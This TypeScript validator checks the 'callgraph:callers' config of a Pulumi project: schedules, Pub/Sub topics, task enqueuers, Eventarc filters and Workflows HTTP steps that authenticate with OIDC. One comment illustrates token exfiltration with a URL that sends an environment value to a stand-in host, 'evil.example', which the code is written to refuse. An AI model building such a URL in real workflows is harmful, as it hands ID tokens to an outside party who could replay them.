import { suggestion } from "./suggestion";
import type { $ZodIssue } from "zod/v4/core";
import {
  CALLER_KEYS,
  CALLER_KIND_KEYS,
  CALLER_KIND_SCHEMAS,
  CALLER_KINDS,
  callerDeclarationSchema,
  type CallerDeclaration,
  type CallerKind,
} from "./caller-schema";
import { describeValue, formatPath, type TopologyIssue } from "./errors";
import type { CallerSpec } from "./model";
import { FUNCTION_NAME_PATTERN } from "./names";
import type { Generation } from "./schema";
import { cronProblem } from "./cron";
import { SOURCE_KIND_WORDS } from "../iam/source-kinds";
import { sourcePathProblem } from "./source-folders";
import { calleeUrlShape, workflowHttpSteps, workflowUrlVariable } from "./workflow-steps";

/** The config key of the callers that are not functions, as written in `Pulumi.<stack>.yaml`. */
export const CALLERS_KEY = "callgraph:callers";

/** A workflow's definition as read from disk and parsed, or why it could not be. */
export type WorkflowDocument = { readonly document: unknown } | { readonly problem: string };

/** What the callers are checked against: the declared functions, and how to read a workflow's file. */
export interface CallerContext {
  /** Every declared function's name, valid or not (a caller naming a broken function is not told it is unknown). */
  readonly functionNames: readonly string[];
  /** The generation a declared function deploys as. */
  readonly generationOf: (name: string) => Generation;
  /**
   * A workflow's definition, parsed, relative to the project root; injected so the model stays free of I/O (the
   * program passes `workflowDocuments`). Omitted: the file and its steps are not checked.
   */
  readonly workflowDocument?: (file: string) => WorkflowDocument;
  /** Where a path really is when a symlink leads out of the project (`sourceFolderChecks`); omitted: not checked. */
  readonly sourceOutside?: (file: string) => string | undefined;
}

/**
 * A topic id: "start with a letter, contain only letters, numbers, dashes, underscores, periods, tildes, plus or
 * percent signs, between 3 and 255 characters, not begin with goog" (https://cloud.google.com/pubsub/docs/pubsub-basics#resource_names).
 */
const TOPIC_ID = /^(?!goog)[A-Za-z][-A-Za-z0-9_.~+%]{2,254}$/;
const TOPIC_NAME = /^projects\/([a-z][-a-z0-9]{4,28}[a-z0-9])\/topics\/(.+)$/;
/** A path the source calls below its callee's URL: from `/`, without a query, a fragment or a space. */
const PATH = /^\/[A-Za-z0-9._~!$&'()*+,;=:@/-]*$/;
/** An Eventarc filter's attribute: a CloudEvents attribute name (lowercase letters and digits). */
const ATTRIBUTE = /^[A-Za-z][A-Za-z0-9]{0,39}$/;
/** A CloudEvents `type`, as Google names them (`google.cloud.storage.object.v1.finalized`). */
const EVENT_TYPE = /^[A-Za-z0-9][A-Za-z0-9._-]{0,254}$/;

/** The kinds that call exactly one function: a job, a subscription and a queue each have one target. */
const SINGLE_TARGET: ReadonlySet<CallerKind> = new Set(["scheduler", "pubsub", "tasks", "eventarc"]);

/**
 * Validates `callgraph:callers`: a map of caller name -> exactly one source kind and the functions it calls. Every
 * problem is returned (with the functions' own), never just the first; the callers returned are the valid ones,
 * sorted by name.
 */
export function parseCallers(
  raw: unknown,
  context: CallerContext,
): { callers: CallerSpec[]; issues: TopologyIssue[] } {
  if (raw === undefined || raw === null) return { callers: [], issues: [] };
  if (typeof raw !== "object" || Array.isArray(raw))
    return {
      callers: [],
      issues: [
        {
          path: CALLERS_KEY,
          message: `expected a map of caller name -> settings, e.g. { nightly: { scheduler: { schedule: "0 3 * * *" }, calls: [reports] } }, got ${describeValue(raw)}`,
        },
      ],
    };
  const issues: TopologyIssue[] = [];
  const callers: CallerSpec[] = [];
  for (const [name, value] of Object.entries(raw as Record<string, unknown>)) {
    const at = (...rest: PropertyKey[]) => formatPath(["callers", name, ...rest]);
    const before = issues.length;
    if (!FUNCTION_NAME_PATTERN.test(name))
      issues.push({
        path: at(),
        message: `invalid caller name ${JSON.stringify(name)}: use lowercase letters, digits and hyphens, starting with a letter and not ending with a hyphen (at most 49 characters)`,
      });
    if (context.functionNames.includes(name))
      issues.push({
        path: at(),
        message: `${JSON.stringify(name)} is also a function: a caller and a function may not share a name (graphs, logs and the handler's caller would not tell them apart)`,
      });
    const parsed = callerDeclarationSchema.safeParse(value, { reportInput: true });
    const record = recordOf(value);
    const kinds = CALLER_KINDS.filter((k) => record[k] !== undefined);
    if (kinds.length !== 1)
      issues.push({
        path: at(),
        message:
          kinds.length === 0
            ? `declares no source: give it exactly one of ${CALLER_KINDS.join(", ")}`
            : `declares ${kinds.join(" and ")}: a caller is exactly one source (declare one caller per source)`,
      });
    const kind = kinds.length === 1 ? kinds[0] : undefined;
    const calls = stringList(record.calls);
    if (calls) issues.push(...callIssues(calls, kind, context, at));
    // The kind's own checks (a schedule, a topic, an event type...) run on its well-typed settings even when the
    // schema refuses another of them, so one malformed key hides no other problem.
    if (kind !== undefined)
      issues.push(...kindIssues(name, kindSettings(record, kind), kind, calls, context, at));
    if (!parsed.success) {
      issues.push(...parsed.error.issues.flatMap((issue) => schemaIssue(name, issue)));
      continue;
    }
    if (kind !== undefined && calls !== undefined && issues.length === before)
      callers.push(toSpec(name, kind, parsed.data));
  }
  callers.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
  return { callers, issues };
}

function callIssues(
  calls: readonly string[],
  kind: CallerKind | undefined,
  context: CallerContext,
  at: (...rest: PropertyKey[]) => string,
): TopologyIssue[] {
  const issues: TopologyIssue[] = [];
  if (calls.length === 0)
    issues.push({ path: at("calls"), message: "calls no function: name the function it calls" });
  if (kind && SINGLE_TARGET.has(kind) && calls.length > 1)
    issues.push({
      path: at("calls"),
      message: `a ${SOURCE_KIND_WORDS[kind]} calls exactly one function, got ${calls.length} (${calls.join(", ")}): declare one caller per target`,
    });
  const seen = new Set<string>();
  calls.forEach((callee, i) => {
    if (!context.functionNames.includes(callee))
      issues.push({
        path: at("calls", i),
        message: `unknown function ${JSON.stringify(callee)}${suggestion(callee, context.functionNames)}`,
      });
    else if (seen.has(callee))
      issues.push({ path: at("calls", i), message: `${JSON.stringify(callee)} is listed twice` });
    else if (kind === "eventarc" && context.generationOf(callee) !== 2)
      issues.push({
        path: at("calls", i),
        message: `${JSON.stringify(callee)} is a 1st-gen function: Eventarc delivers to Cloud Run services, so only 2nd-gen functions (generation: 2) can be its target`,
      });
    seen.add(callee);
  });
  return issues;
}

/** A kind's settings as far as each is well typed: the schema reports the others. */
type KindSettings = { [K in CallerKind]: Partial<NonNullable<CallerDeclaration[K]>> };

/** The settings of `kind` that its schema takes one by one (`{}` for a value that is not a map). */
function kindSettings<K extends CallerKind>(record: Record<string, unknown>, kind: K): KindSettings[K] {
  const shape: Record<string, { safeParse(value: unknown): { success: boolean } }> =
    CALLER_KIND_SCHEMAS[kind].shape;
  return Object.fromEntries(
    Object.entries(recordOf(record[kind])).filter(
      ([key, value]) => Object.hasOwn(shape, key) && shape[key].safeParse(value).success,
    ),
  ) as KindSettings[K];
}

function kindIssues(
  name: string,
  settings: KindSettings[CallerKind],
  kind: CallerKind,
  calls: readonly string[] | undefined,
  context: CallerContext,
  at: (...rest: PropertyKey[]) => string,
): TopologyIssue[] {
  const issues: TopologyIssue[] = [];
  const pathIssue = (value: string | undefined) => {
    if (
      value !== undefined &&
      PATH.test(value) &&
      value.split("/").some((part) => part === "." || part === "..")
    )
      issues.push({
        path: at(kind, "path"),
        message: `${JSON.stringify(value)} has a "." or ".." segment: below its callee's URL, it could reach another function's`,
      });
    else if (value !== undefined && !PATH.test(value))
      issues.push({
        path: at(kind, "path"),
        message: `${JSON.stringify(value)} is not a path: start it with "/", with no query, fragment, space or percent-encoding`,
      });
  };
  switch (kind) {
    case "scheduler": {
      const s = settings as KindSettings["scheduler"];
      const cron = s.schedule === undefined ? undefined : cronProblem(s.schedule);
      if (cron)
        issues.push({
          path: at(kind, "schedule"),
          message: `${JSON.stringify(s.schedule)} is not a unix-cron schedule: ${cron}. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"`,
        });
      const zone = s.timeZone === undefined ? undefined : timeZoneProblem(s.timeZone);
      if (zone) issues.push({ path: at(kind, "timeZone"), message: `${JSON.stringify(s.timeZone)} ${zone}` });
      const method = s.httpMethod ?? "POST";
      if (s.body !== undefined && !["POST", "PUT", "PATCH"].includes(method))
        issues.push({
          path: at(kind, "body"),
          message: `a body is sent only with POST, PUT or PATCH (Cloud Scheduler's HttpTarget.body), and httpMethod is ${method}`,
        });
      pathIssue(s.path);
      break;
    }
    case "pubsub": {
      const p = settings as KindSettings["pubsub"];
      // The caller's name is its subscription's: "between 3 and 255 characters", "must not start with goog"
      // (https://cloud.google.com/pubsub/docs/pubsub-basics#resource_names).
      if (name.length < 3 || name.startsWith("goog"))
        issues.push({
          path: at(),
          message: `${JSON.stringify(name)} names its Pub/Sub subscription, which takes 3 to 255 characters not starting with "goog": rename the caller`,
        });
      const full = p.topic === undefined ? undefined : TOPIC_NAME.exec(p.topic);
      if (p.topic !== undefined && !(full ? TOPIC_ID.test(full[2]) : TOPIC_ID.test(p.topic)))
        issues.push({
          path: at(kind, "topic"),
          message: `${JSON.stringify(p.topic)} is not a topic: write a topic id this stack creates (3-255 characters, starting with a letter, not with "goog") or an existing topic's full name, projects/PROJECT/topics/TOPIC`,
        });
      pathIssue(p.path);
      break;
    }
    case "tasks": {
      const t = settings as KindSettings["tasks"];
      const seen = new Set<string>();
      (t.enqueuers ?? []).forEach((fn, i) => {
        if (!context.functionNames.includes(fn))
          issues.push({
            path: at(kind, "enqueuers", i),
            message: `unknown function ${JSON.stringify(fn)}${suggestion(fn, context.functionNames)}: only a declared function can be given the right to add tasks`,
          });
        else if (seen.has(fn))
          issues.push({ path: at(kind, "enqueuers", i), message: `${JSON.stringify(fn)} is listed twice` });
        seen.add(fn);
      });
      pathIssue(t.path);
      break;
    }
    case "workflow": {
      const w = settings as KindSettings["workflow"];
      if (w.source !== undefined && calls !== undefined)
        issues.push(...workflowIssues(w.source, calls, context, at));
      break;
    }
    case "eventarc": {
      const e = settings as KindSettings["eventarc"];
      if (e.eventType !== undefined && !EVENT_TYPE.test(e.eventType))
        issues.push({
          path: at(kind, "eventType"),
          message: `${JSON.stringify(e.eventType)} is not an event type, e.g. google.cloud.storage.object.v1.finalized`,
        });
      for (const [attribute, value] of Object.entries(e.filters ?? {})) {
        if (value === "")
          issues.push({
            path: at(kind, "filters", attribute),
            message: "is empty: give the value events must have",
          });
        if (attribute === "type")
          issues.push({
            path: at(kind, "filters", attribute),
            message: "the event type is eventType, not a filter: move it there",
          });
        else if (!ATTRIBUTE.test(attribute))
          issues.push({
            path: at(kind, "filters", attribute),
            message: `${JSON.stringify(attribute)} is not an event attribute name (letters and digits, e.g. bucket or serviceName)`,
          });
      }
      pathIssue(e.path);
      break;
    }
  }
  return issues;
}

/**
 * A workflow's file must be in the project, readable, and every `http.*` step that authenticates with OIDC must
 * call a declared callee through the URL the program gives it; a step that reads a callee's URL without OIDC would
 * call without a token and be refused, so it is refused here instead.
 */
function workflowIssues(
  source: string,
  calls: readonly string[],
  context: CallerContext,
  at: (...rest: PropertyKey[]) => string,
): TopologyIssue[] {
  const where = at("workflow", "source");
  const problem = sourcePathProblem(source);
  if (problem) return [{ path: where, message: `${JSON.stringify(source)} ${problem}` }];
  const outside = context.sourceOutside?.(source);
  if (outside !== undefined)
    return [
      {
        path: where,
        message: `${JSON.stringify(source)} leads (through a symlink) to ${JSON.stringify(outside)}, outside the project`,
      },
    ];
  if (!context.workflowDocument) return [];
  const read = context.workflowDocument(source);
  if ("problem" in read) return [{ path: where, message: `${JSON.stringify(source)} ${read.problem}` }];
  const byVariable = new Map(context.functionNames.map((f) => [workflowUrlVariable(f), f]));
  const issues: TopologyIssue[] = [];
  const steps = workflowHttpSteps(read.document);
  for (const step of steps) {
    const push = (message: string) =>
      issues.push({ path: where, message: `${source}, step ${step.at}: ${message}` });
    // What cannot be read cannot be checked: an auth or a url built by an expression is refused, not skipped.
    if (step.opaqueAuth || step.opaqueUrl) {
      push(
        `${step.call} writes its ${step.opaqueAuth ? "auth" : "url"} as an expression: write auth as a map ({type: OIDC}) and url as \${sys.get_env("CALLGRAPH_URL_<NAME>")}, so what it sends can be checked`,
      );
      continue;
    }
    if (step.auth !== undefined && step.auth !== "OIDC" && step.auth.toUpperCase() === "OIDC") {
      push(`${step.call} writes auth.type ${JSON.stringify(step.auth)}: Workflows spells it OIDC`);
      continue;
    }
    if (step.auth !== "OIDC") {
      if (step.urlVariables.length > 0 || step.audienceVariables.length > 0)
        push(
          `${step.call} reads ${[...new Set([...step.urlVariables, ...step.audienceVariables])].join(", ")} without auth: {type: OIDC}: a function is called with the workflow's ID token, or it refuses the call`,
        );
      continue;
    }
    // A token is sent only where the url is a declared callee's own, with at most a literal path below it: a
    // url that merely reads the variable (`${"https://evil.example/?u=" + sys.get_env(...)}`) would hand the token
    // to whoever answers there, who could replay it to the callee.
    const shape = calleeUrlShape(step.url);
    if (step.urlVariables.length !== 1 || !shape) {
      push(
        `${step.call} authenticates with OIDC, so its url must be one declared callee's URL, ` +
          `\${sys.get_env("CALLGRAPH_URL_<NAME>")}, or that URL and a literal path (\${sys.get_env("CALLGRAPH_URL_<NAME>") + "/path"}), nothing before it ` +
          `(declared: ${calls.map(workflowUrlVariable).join(", ") || "none"}), got ${describeValue(step.url)}`,
      );
      continue;
    }
    if (shape.path.split("/").some((part) => part === "." || part === "..")) {
      push(
        `${step.call} calls ${describeValue(step.url)}: a path with "." or ".." segments may leave its callee`,
      );
      continue;
    }
    const callee = byVariable.get(shape.variable);
    if (callee === undefined || !calls.includes(callee)) {
      push(
        `${step.call} calls ${callee === undefined ? `${shape.variable}, which is no function's URL` : `${JSON.stringify(callee)}, which the workflow does not declare`}: add it to calls, or remove the step`,
      );
      continue;
    }
    // The audience defaults to the URL (the Workflows OIDC reference): with a path, it must be set to the callee's
    // own URL, the only audience the callee accepts; set, it must be exactly that.
    const audience = calleeUrlShape(step.audience);
    if (
      step.audience !== undefined &&
      (audience === undefined || audience.path !== "" || audience.variable !== shape.variable)
    )
      push(
        `${step.call} sets auth.audience ${describeValue(step.audience)}: it must be \${sys.get_env("${shape.variable}")}, ${callee}'s own URL, the one audience it accepts`,
      );
    else if (shape.path !== "" && step.audience === undefined)
      push(
        `${step.call} calls a path below ${callee}'s URL: set auth.audience to \${sys.get_env("${shape.variable}")}, since the token's audience defaults to the whole url and ${callee} accepts only its own URL`,
      );
  }
  const called = new Set(steps.filter((s) => s.auth === "OIDC").flatMap((s) => s.urlVariables));
  calls.forEach((callee, i) => {
    if (context.functionNames.includes(callee) && !called.has(workflowUrlVariable(callee)))
      issues.push({
        path: at("calls", i),
        message: `the workflow (${source}) has no http.* step with auth: {type: OIDC} calling \${sys.get_env("${workflowUrlVariable(callee)}")}: remove ${JSON.stringify(callee)} from calls, or call it`,
      });
  });
  return issues;
}

function toSpec(name: string, kind: CallerKind, decl: CallerDeclaration): CallerSpec {
  const calls = [...new Set(decl.calls)].sort();
  const base = { name, calls };
  const withPath = (path: string | undefined) => (path === undefined ? {} : { path });
  switch (kind) {
    case "scheduler": {
      const s = decl.scheduler!;
      return {
        ...base,
        kind,
        schedule: s.schedule.trim().replace(/\s+/g, " "),
        timeZone: s.timeZone ?? "Etc/UTC",
        httpMethod: s.httpMethod ?? "POST",
        ...(s.body === undefined ? {} : { body: s.body }),
        ...withPath(s.path),
      };
    }
    case "pubsub": {
      const p = decl.pubsub!;
      return {
        ...base,
        kind,
        topic: p.topic,
        noWrapper: p.noWrapper ?? false,
        ...(p.ackDeadlineSeconds === undefined ? {} : { ackDeadlineSeconds: p.ackDeadlineSeconds }),
        ...withPath(p.path),
      };
    }
    case "tasks": {
      const t = decl.tasks!;
      return {
        ...base,
        kind,
        enqueuers: [...new Set(t.enqueuers ?? [])].sort(),
        httpMethod: t.httpMethod ?? "POST",
        ...(t.maxAttempts === undefined ? {} : { maxAttempts: t.maxAttempts }),
        ...withPath(t.path),
      };
    }
    case "workflow": {
      const w = decl.workflow!;
      return {
        ...base,
        kind,
        source: w.source,
        ...(w.description === undefined ? {} : { description: w.description }),
      };
    }
    case "eventarc": {
      const e = decl.eventarc!;
      const filters = Object.entries(e.filters ?? {}).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
      return {
        ...base,
        kind,
        eventType: e.eventType,
        ...(filters.length === 0 ? {} : { filters: Object.fromEntries(filters) }),
        ...withPath(e.path),
      };
    }
  }
}

/**
 * Why `zone` is not a tz database name as Cloud Scheduler takes it, or undefined. Intl knows every name, aliases
 * included (`Etc/UTC`), but ignores case, which the tz database does not: `europe/paris` is refused with its spelling.
 */
function timeZoneProblem(zone: string): string | undefined {
  let canonical: string;
  try {
    canonical = new Intl.DateTimeFormat("en-US", { timeZone: zone }).resolvedOptions().timeZone;
  } catch {
    return 'is not a time zone of the tz database, e.g. "Etc/UTC" or "Europe/Paris"';
  }
  if (TZ_SPELLING.test(zone)) return undefined;
  return `is not spelled as the tz database spells it${canonical.toLowerCase() === zone.toLowerCase() ? `: write ${JSON.stringify(canonical)}` : ""}`;
}

/** Each part of a tz database name starts with a capital (`Europe/Paris`, `Etc/GMT+5`, `America/Port-au-Prince`). */
const TZ_SPELLING = /^[A-Z][A-Za-z0-9_+-]*(?:\/[A-Z][A-Za-z0-9_+-]*)*$/;

function stringList(value: unknown): string[] | undefined {
  return Array.isArray(value) && value.every((v) => typeof v === "string") ? (value as string[]) : undefined;
}

function recordOf(value: unknown): Record<string, unknown> {
  return value !== null && typeof value === "object" && !Array.isArray(value)
    ? (value as Record<string, unknown>)
    : {};
}

/** One zod issue as ours: the config path, the offending value, what was expected. */
function schemaIssue(name: string, issue: $ZodIssue): TopologyIssue[] {
  const path = ["callers", name, ...issue.path];
  if (issue.code === "unrecognized_keys") {
    const kind = issue.path.length === 1 ? (issue.path[0] as CallerKind) : undefined;
    const allowed = kind && CALLER_KIND_KEYS[kind] ? CALLER_KIND_KEYS[kind] : CALLER_KEYS;
    return issue.keys.map((key) => ({
      path: formatPath([...path, key]),
      message: `unknown key ${JSON.stringify(key)}${suggestion(key, allowed)} (allowed: ${allowed.join(", ")})`,
    }));
  }
  if (issue.code === "invalid_type") {
    const expected =
      issue.path.length === 0
        ? "an object with one source and calls"
        : issue.path[0] === "calls" && issue.path.length === 1
          ? "a list of function names, e.g. [reports]"
          : issue.expected === "int"
            ? "a whole number"
            : issue.expected === "object"
              ? "an object of settings"
              : `${/^[aeiou]/.test(issue.expected) ? "an" : "a"} ${issue.expected}`;
    return [{ path: formatPath(path), message: `expected ${expected}, got ${describeValue(issue.input)}` }];
  }
  if (issue.code === "invalid_value")
    return [
      {
        path: formatPath(path),
        message: `${describeValue(issue.input)} is not one of ${issue.values.map((v) => JSON.stringify(v)).join(", ")}`,
      },
    ];
  return [{ path: formatPath(path), message: `${issue.message}, got ${describeValue(issue.input)}` }];
}
